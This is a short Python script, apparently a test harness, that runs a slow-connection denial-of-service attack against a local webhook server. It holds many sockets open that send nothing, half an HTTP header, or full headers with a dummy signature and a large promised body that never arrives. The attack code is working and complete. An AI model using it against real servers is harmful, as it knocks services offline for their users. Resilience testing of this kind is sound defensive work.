"""The attack: sockets that are silent, sockets with half a head, and sockets with a head and no body."""

from __future__ import annotations

import asyncio
import sys
from contextlib import suppress
from typing import Final

SOURCE: Final = "127.0.0.2"
"""The address that it comes from: Linux takes all of 127.0.0.0/8 for this machine."""
PAUSE: Final = 1.0
"""Seconds before a socket that was closed is opened again."""
_HEAD: Final = b"POST /webhooks/cloud HTTP/1.1\r\nHost: flood\r\nContent-Type: application/json\r\n"
_SIGNED: Final = b"X-Hub-Signature-256: sha256=%b\r\nContent-Length: %d\r\n\r\n" % (b"0" * 64, 3 * 1024 * 1024)
SENT: Final = (b"", _HEAD, _HEAD + _SIGNED)
"""A third each. The signature has the right form, so that it takes the body to find out that it is none."""


async def attack(port: int, seconds: float, sockets: int) -> int:
    """Hold `sockets` open, opening again what is closed. Return how many were opened in all.

    It ends so many seconds after each was open for the first time.
    """
    opened = 0

    async def hold(sent: bytes) -> None:
        nonlocal opened
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
                opened += 1
                writer.write(sent)
                await reader.read()
                writer.transport.abort()
            await asyncio.sleep(PAUSE)

    holders = [asyncio.create_task(hold(SENT[number % len(SENT)])) for number in range(sockets)]
    while opened < sockets:  # noqa: ASYNC110 (a tenth of a second does not matter)
        await asyncio.sleep(0.1)
    await asyncio.sleep(seconds)
    for holder in holders:
        holder.cancel()
    return opened


if __name__ == "__main__":
    sys.stdout.write(str(asyncio.run(attack(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])))))
